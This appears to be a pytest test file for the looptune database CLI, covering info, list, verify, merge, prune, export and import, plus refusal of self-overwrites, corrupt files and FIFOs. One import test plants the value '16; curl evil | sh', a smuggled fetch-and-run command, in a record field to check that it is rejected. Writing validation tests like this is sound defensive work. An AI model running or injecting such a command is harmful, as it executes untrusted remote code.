"""``looptune db ...`` end to end through click's CliRunner."""
from __future__ import annotations

import json
import os
import subprocess
import sys

import h5py
import numpy as np
import pytest
from click.testing import CliRunner

from looptune.database import DatabaseError, export_jsonl, load, save
from looptune.database.cli import db

from db_testlib import FOREIGN, make_record, replace_dataset


@pytest.fixture
def dbs(tmp_path):
    a, b = tmp_path / "a.h5", tmp_path / "b.h5"
    save(a, [make_record(m) for m in (1, 8, 64)] + [make_record(64, machine=FOREIGN, gflops=7.0, verified=False)])
    save(b, [make_record(m, gflops=200.0) for m in (8, 4096)])
    return a, b


def run(*args, ok=True):
    result = CliRunner().invoke(db, [str(a) for a in args])
    assert (result.exit_code == 0) == ok, (result.exit_code, result.output)
    return result


def run_json(*args, ok=True):
    payload = json.loads(run(*args, "--json", ok=ok).stdout)
    assert payload["ok"] is ok
    return payload


def test_info(dbs):
    a, _ = dbs
    info = run_json("info", a)
    assert info["record_count"] == 4 and info["verified_count"] == 3 and info["schema_version"] == 1
    assert {m["cpu_model"]: m["record_count"] for m in info["machines"]} == {"Test CPU 9000": 3, "Other CPU": 1}
    assert "4 records" in run("info", a).stdout


def test_list(dbs):
    a, _ = dbs
    records = run_json("list", a)["records"]
    assert len(records) == 4 and records[0]["problem"]["m"] == 1
    assert len(run_json("list", a, "--limit", "2")["records"]) == 2
    assert "matmul:float32:nn:t1:b1:8x64x64" in run("list", a).stdout


def test_verify_good_damaged_and_hostile(dbs, tmp_path):
    a, _ = dbs
    assert run_json("verify", a)["valid_records"] == 4
    truncated = tmp_path / "truncated.h5"
    truncated.write_bytes(a.read_bytes()[:2000])
    failure = run_json("verify", truncated, ok=False)
    assert "truncated" in failure["error"] and failure["error_type"] == "CorruptDatabaseError"
    assert "truncated" in run("verify", truncated, ok=False).stderr
    with h5py.File(a, "r") as f:
        m = f["records/m"][()]
    m[1] = 0                                                     # out of range, with valid checksums
    replace_dataset(a, "/records/m", m)
    report = run_json("verify", a, ok=False)
    assert report["valid_records"] == 3
    assert report["rejected"] == [{"where": "record 1",
                                   "reason": "problem: m must be an integer in [1, 16777216], got 0"}]
    assert "rejected record 1: problem: m" in run("verify", a, ok=False).stderr


def test_merge_out_and_in_place(dbs, tmp_path):
    a, b = dbs
    out = tmp_path / "c.h5"
    merged = run_json("merge", a, b, "--out", out)
    assert merged["record_count"] == 5 and merged["inputs"] == [4, 2]
    assert {r.problem.m: r.gflops_median for r in load(out) if r.machine != FOREIGN} == {1: 100.0, 8: 200.0,
                                                                                        64: 100.0, 4096: 200.0}
    run("merge", a, b)                                           # into a
    assert load(a).records == load(out).records


def test_prune(dbs):
    a, _ = dbs
    assert run_json("prune", a, "--unverified", "--dry-run")["dropped"] == 1
    assert len(load(a)) == 4
    assert run_json("prune", a, "--unverified")["kept"] == 3
    assert len(load(a)) == 3
    assert run("prune", a, ok=False).exit_code == 2            # no rule: usage error


def test_export_import_round_trip(dbs, tmp_path):
    a, _ = dbs
    jsonl = tmp_path / "a.jsonl"
    assert run_json("export", a, "--out", jsonl)["record_count"] == 4
    fresh = tmp_path / "fresh.h5"
    assert run_json("import", fresh, jsonl)["record_count"] == 4
    assert load(fresh).records == load(a).records


@pytest.mark.parametrize("alias", ["same path", "other spelling", "symlink", "hard link"])
def test_export_refuses_to_overwrite_its_own_database(dbs, tmp_path, alias):
    a, _ = dbs
    out = {"same path": a, "other spelling": tmp_path / "." / a.name, "symlink": tmp_path / "link.h5",
           "hard link": tmp_path / "hard.h5"}[alias]
    if alias == "symlink":
        out.symlink_to(a)
    elif alias == "hard link":
        os.link(a, out)
    before = a.read_bytes()
    result = run("export", a, "--out", out, ok=False)
    assert result.exit_code == 1 and result.stderr.count("\n") == 1 and "same file" in result.stderr
    assert run_json("export", a, "--out", out, ok=False)["error_type"] == "DatabaseError"
    assert a.read_bytes() == before and len(load(a)) == 4 and (out.is_symlink() or alias != "symlink")


def test_export_never_replaces_another_database(dbs):
    a, b = dbs
    before = b.read_bytes()
    result = run("export", a, "--out", b, ok=False)
    assert result.exit_code == 1 and "HDF5" in result.stderr and result.stderr.count("\n") == 1
    with pytest.raises(DatabaseError):                            # the library refuses too, not only the CLI
        export_jsonl(load(a).records, b)
    assert b.read_bytes() == before


def test_import_refuses_to_read_the_database_it_writes(dbs, tmp_path):
    a, _ = dbs
    before = a.read_bytes()
    link = tmp_path / "a.jsonl"
    link.symlink_to(a)
    for source in (a, link):
        result = run("import", a, source, ok=False)
        assert result.exit_code == 1 and "same file" in result.stderr
    assert a.read_bytes() == before


def test_merge_and_import_never_replace_a_file_that_is_not_a_database(dbs, tmp_path):
    a, b = dbs
    jsonl = tmp_path / "a.jsonl"
    run("export", a, "--out", jsonl)
    before = jsonl.read_bytes()
    assert run_json("merge", a, b, "--out", jsonl, ok=False)["error_type"] == "CorruptDatabaseError"
    assert run_json("import", jsonl, jsonl, ok=False)["error_type"] == "DatabaseError"
    assert jsonl.read_bytes() == before


def test_import_rejects_name_line_and_reason_and_exit_1(dbs, tmp_path):
    a, _ = dbs
    jsonl = tmp_path / "mixed.jsonl"
    good = make_record(77).to_dict()
    evil = make_record(78).to_dict()
    evil["trace"]["steps"][1]["factor"] = "16; curl evil | sh"
    jsonl.write_text("\n".join([json.dumps(good), json.dumps(evil), "garbage"]) + "\n")
    result = run_json("import", a, jsonl, ok=False)
    assert result["imported"] == 1 and result["record_count"] == 5
    assert [r["where"] for r in result["rejected"]] == ["line 2", "line 3"]
    assert "split.factor must be an integer" in result["rejected"][0]["reason"]
    text = run("import", a, jsonl, ok=False)
    assert "rejected line 2: trace: split.factor" in text.stderr


def test_corrupt_input_names_the_file(dbs, tmp_path):
    a, _ = dbs
    garbage = tmp_path / "garbage.h5"
    garbage.write_bytes(np.random.default_rng(0).bytes(4096))
    for command in (["info", garbage], ["list", garbage], ["export", garbage, "--out", tmp_path / "x.jsonl"],
                    ["merge", a, garbage, "--out", tmp_path / "m.h5"]):
        assert "garbage.h5" in run_json(*command, ok=False)["error"]
    assert not (tmp_path / "m.h5").exists()


def test_module_entry_point(dbs):
    a, _ = dbs
    out = subprocess.run([sys.executable, "-m", "looptune.database.cli", "info", str(a), "--json"],
                         capture_output=True, text=True, check=True).stdout
    assert json.loads(out)["record_count"] == 4


@pytest.mark.parametrize("command", ["info", "list", "verify"])
def test_fifo_is_refused_without_blocking(tmp_path, command):
    fifo = tmp_path / "not-a-db.h5"
    os.mkfifo(fifo)
    done = subprocess.run([sys.executable, "-m", "looptune.tuner.cli", "db", command, str(fifo)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode != 0 and "not a regular file" in done.stderr
    assert "Traceback" not in done.stderr
